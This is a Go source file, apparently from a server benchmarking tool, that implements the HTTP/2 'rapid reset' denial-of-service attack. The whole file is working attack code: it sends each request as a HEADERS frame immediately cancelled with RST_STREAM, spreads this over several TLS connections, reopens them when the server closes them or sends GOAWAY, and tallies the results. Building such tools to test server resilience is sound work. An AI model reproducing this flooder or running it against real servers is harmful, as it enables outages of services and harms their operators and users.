package bench

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"net"
	"strconv"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// h2ResetAttack is HTTP/2 rapid reset: each request a HEADERS frame at once
// followed by RST_STREAM(CANCEL), on a few connections that are opened
// again when the server closes them.
type h2ResetAttack struct {
	cfg AttackConfig
	t   target
	c   *attackCounters
	// queue holds the requests due and not yet written; the connections
	// take them in turn.
	queue chan int64
	// done is closed when no more requests will be queued.
	done chan struct{}
	wg   sync.WaitGroup
	// first holds the connections opened by start, one per worker.
	first []*h2Conn
}

func newH2ResetAttack(cfg AttackConfig, t target, c *attackCounters) *h2ResetAttack {
	return &h2ResetAttack{cfg: cfg, t: t, c: c, queue: make(chan int64, cfg.MaxInflight), done: make(chan struct{})}
}

// start opens the connections: a server that does not answer, or answers
// without h2, is an error.
func (a *h2ResetAttack) start(ctx context.Context) error {
	for range a.cfg.Conns {
		hc, err := a.dial(ctx)
		if err != nil {
			for _, c := range a.first {
				c.close()
			}
			a.first = nil
			return err
		}
		a.first = append(a.first, hc)
	}
	for _, hc := range a.first {
		a.wg.Add(1)
		go func() {
			defer a.wg.Done()
			a.worker(ctx, hc)
		}()
	}
	return nil
}

func (a *h2ResetAttack) fire(_ context.Context, n int64) bool {
	select {
	case a.queue <- n:
		return true
	default:
		return false
	}
}

// finish lets the workers write what is queued, then stops them; what no
// connection could take is counted as skipped.
func (a *h2ResetAttack) finish() {
	select {
	case <-a.done:
	default:
		close(a.done)
	}
	a.wg.Wait()
	for {
		select {
		case <-a.queue:
			a.c.skipped.Add(1)
		default:
			return
		}
	}
}

// worker writes queued requests on its connection, and opens a new one
// whenever the server closes it, until the queue is done and empty.
func (a *h2ResetAttack) worker(ctx context.Context, hc *h2Conn) {
	defer func() {
		if hc != nil {
			hc.close()
		}
	}()
	for {
		if hc == nil {
			var err error
			if hc, err = a.dial(ctx); err != nil {
				a.c.note(err)
				select { // a short pause, so that a dead server is not dialled in a loop
				case <-time.After(20 * time.Millisecond):
				case <-ctx.Done():
					return
				}
				if a.stopping(ctx) {
					return
				}
				continue
			}
		}
		var n int64
		select {
		case n = <-a.queue:
		case <-hc.dead:
			hc.close()
			hc = nil
			continue
		case <-ctx.Done():
			return
		case <-a.done:
			select {
			case n = <-a.queue:
			default:
				return
			}
		}
		if err := hc.request(a.t, n); err != nil {
			if errors.Is(err, errConnDead) {
				a.requeue(n) // not written: the next connection sends it
			} else {
				a.c.fail(err) // lost with its connection
			}
			hc.close()
			hc = nil
			continue
		}
		a.c.sent.Add(1)
		a.c.resets.Add(1)
	}
}

// requeue puts back a request that was not written, or skips it when the
// queue is full.
func (a *h2ResetAttack) requeue(n int64) {
	select {
	case a.queue <- n:
	default:
		a.c.skipped.Add(1)
	}
}

// stopping says no new connection is worth opening: the run is over (what
// is still queued is counted as skipped) or ctx ended.
func (a *h2ResetAttack) stopping(ctx context.Context) bool {
	if ctx.Err() != nil {
		return true
	}
	select {
	case <-a.done:
		return true
	default:
		return false
	}
}

// h2Conn is one HTTP/2 client connection that writes requests and resets
// them, and reads (and mostly discards) what the server sends.
type h2Conn struct {
	conn net.Conn
	c    *attackCounters
	// dead is closed when the reader stops: the server closed the
	// connection, sent GOAWAY, or broke the protocol.
	dead chan struct{}

	// wmu guards the writing side: bw, fr's writes, enc, hbuf, nextID.
	wmu     sync.Mutex
	bw      *bufio.Writer
	fr      *http2.Framer
	enc     *hpack.Encoder
	hbuf    bytes.Buffer
	nextID  uint32
	timeout time.Duration

	// The reader never writes itself (a write can block while the server
	// waits for the client to read): it leaves what it owes the server
	// here, under ctlMu, and wakes the control writer through ctl.
	ctlMu   sync.Mutex
	acks    int       // SETTINGS to acknowledge
	pings   [][8]byte // PINGs to answer
	window  uint32    // connection window to give back
	ctl     chan struct{}
	ctlDone chan struct{}

	closeOnce sync.Once
}

// h2MaxPendingPings bounds the PING answers owed; a server that sends more
// before the control writer catches up gets fewer.
const h2MaxPendingPings = 16

// h2MaxStreamID is the largest client stream id (2^31−1, odd).
const h2MaxStreamID = 1<<31 - 1

// dial opens a TLS connection with ALPN h2, sends the preface and
// SETTINGS, and starts the reader.
func (a *h2ResetAttack) dial(ctx context.Context) (*h2Conn, error) {
	d := &tls.Dialer{NetDialer: &net.Dialer{Timeout: a.cfg.ClientTimeout}, Config: clientTLS(a.cfg.TLSConfig, "h2")}
	conn, err := d.DialContext(ctx, "tcp", a.t.addr)
	if err != nil {
		return nil, err
	}
	a.c.dials.Add(1)
	if p := conn.(*tls.Conn).ConnectionState().NegotiatedProtocol; p != "h2" {
		conn.Close()
		return nil, &protoError{got: "ALPN " + strconv.Quote(p), want: "h2"}
	}
	hc := &h2Conn{conn: conn, c: a.c, dead: make(chan struct{}), nextID: 1, timeout: a.cfg.ClientTimeout,
		ctl: make(chan struct{}, 1), ctlDone: make(chan struct{})}
	hc.bw = bufio.NewWriterSize(conn, 16<<10)
	hc.fr = http2.NewFramer(hc.bw, bufio.NewReader(conn))
	hc.fr.SetMaxReadFrameSize(1 << 20)
	hc.enc = hpack.NewEncoder(&hc.hbuf)
	err = hc.write(func() error {
		if _, err := hc.bw.WriteString(http2.ClientPreface); err != nil {
			return err
		}
		return hc.fr.WriteSettings(http2.Setting{ID: http2.SettingEnablePush, Val: 0})
	})
	if err != nil {
		conn.Close()
		return nil, fmt.Errorf("h2 preface: %w", err)
	}
	go hc.read()
	go hc.control()
	return hc, nil
}

// write runs fn under the write lock and flushes, within the timeout.
func (hc *h2Conn) write(fn func() error) error {
	hc.wmu.Lock()
	defer hc.wmu.Unlock()
	hc.conn.SetWriteDeadline(time.Now().Add(hc.timeout))
	if err := fn(); err != nil {
		return err
	}
	return hc.bw.Flush()
}

// errConnDead means the server had closed the connection (or sent GOAWAY)
// before a request was written on it.
var errConnDead = errors.New("h2: connection closed by the server")

// errStreamIDs means a connection has used up its stream ids.
var errStreamIDs = errors.New("h2: stream ids exhausted")

// request writes HEADERS (GET, END_STREAM) for key n and RST_STREAM(CANCEL)
// right after it, in one write.
func (hc *h2Conn) request(t target, n int64) error {
	select {
	case <-hc.dead:
		return errConnDead
	default:
	}
	return hc.write(func() error {
		if hc.nextID > h2MaxStreamID {
			return errStreamIDs
		}
		id := hc.nextID
		hc.nextID += 2
		hc.hbuf.Reset()
		for _, f := range []hpack.HeaderField{
			{Name: ":method", Value: "GET"},
			{Name: ":scheme", Value: "https"},
			{Name: ":authority", Value: t.host},
			{Name: ":path", Value: t.requestURI + strconv.FormatInt(n, 10)},
			{Name: "user-agent", Value: "meridian-bench-attack"},
		} {
			if err := hc.enc.WriteField(f); err != nil {
				return err
			}
		}
		if err := hc.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: hc.hbuf.Bytes(),
			EndStream: true, EndHeaders: true}); err != nil {
			return err
		}
		return hc.fr.WriteRSTStream(id, http2.ErrCodeCancel)
	})
}

// read counts RST_STREAM and GOAWAY, leaves the answers to SETTINGS and
// PING and the connection window that DATA frames use up (so that the
// server is never blocked on the client) to the control writer, and marks
// the connection dead when it ends.
func (hc *h2Conn) read() {
	defer close(hc.dead)
	defer hc.conn.Close()
	for {
		f, err := hc.fr.ReadFrame()
		if err != nil {
			return
		}
		switch f := f.(type) {
		case *http2.SettingsFrame:
			if !f.IsAck() {
				hc.owe(func() { hc.acks++ })
			}
		case *http2.PingFrame:
			if !f.IsAck() {
				hc.owe(func() {
					if len(hc.pings) < h2MaxPendingPings {
						hc.pings = append(hc.pings, f.Data)
					}
				})
			}
		case *http2.DataFrame:
			if n := f.Header().Length; n > 0 {
				hc.owe(func() { hc.window += n })
			}
		case *http2.RSTStreamFrame:
			hc.c.serverResets.Add(1)
		case *http2.GoAwayFrame:
			hc.c.goAways.Add(1)
			if f.ErrCode != http2.ErrCodeNo {
				hc.c.note(fmt.Errorf("h2: GOAWAY %v", f.ErrCode))
			}
			return // no new streams on it: open another
		}
	}
}

// owe records, under ctlMu, something the control writer must send.
func (hc *h2Conn) owe(fn func()) {
	hc.ctlMu.Lock()
	fn()
	hc.ctlMu.Unlock()
	select {
	case hc.ctl <- struct{}{}:
	default: // already woken
	}
}

// control writes what the reader left, until the connection is dead.
func (hc *h2Conn) control() {
	defer close(hc.ctlDone)
	for {
		select {
		case <-hc.ctl:
		case <-hc.dead:
			return
		}
		hc.ctlMu.Lock()
		acks, pings, window := hc.acks, hc.pings, hc.window
		hc.acks, hc.pings, hc.window = 0, nil, 0
		hc.ctlMu.Unlock()
		err := hc.write(func() error {
			for range acks {
				if err := hc.fr.WriteSettingsAck(); err != nil {
					return err
				}
			}
			for _, p := range pings {
				if err := hc.fr.WritePing(true, p); err != nil {
					return err
				}
			}
			if window > 0 {
				return hc.fr.WriteWindowUpdate(0, window)
			}
			return nil
		})
		if err != nil {
			hc.conn.Close() // the reader ends, and with it the connection
			return
		}
	}
}

// close closes the connection and waits for its reader and control
// writer.
func (hc *h2Conn) close() {
	hc.closeOnce.Do(func() { hc.conn.Close() })
	<-hc.dead
	<-hc.ctlDone
}

var _ attacker = (*h2ResetAttack)(nil)
var _ attacker = (*h3CancelAttack)(nil)
var _ attacker = (*getAttack)(nil)
var _ attacker = (*h1CloseAttack)(nil)
